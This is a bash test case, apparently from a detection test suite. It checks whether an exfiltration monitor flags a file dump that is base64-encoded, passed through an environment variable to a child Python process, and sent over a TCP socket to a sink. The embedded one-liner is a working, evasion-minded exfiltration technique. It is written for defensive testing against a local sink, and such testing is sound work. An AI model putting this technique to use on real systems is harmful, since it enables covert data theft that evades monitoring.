#!/bin/bash
# B-environment: the dump's text in an environment variable.
# flow: a program reads the dump, puts it into its environment and executes another, which sends it.
# tools: python3
# expect: sent encoded port critical
. "$CORPUS/lib.sh"
mkdump
sink tcp
python3 -c 'import base64, os, sys
os.environ["PART"] = base64.b64encode(open(sys.argv[1], "rb").read(60000)).decode()
script = "import os, socket, sys; socket.create_connection((sys.argv[1], int(sys.argv[2]))).sendall(os.environ[\"PART\"].encode())"
os.execv(sys.executable, [sys.executable, "-c", script, sys.argv[2], sys.argv[3]])' "$D" "$SINK" "$PORT"
sunk 60000
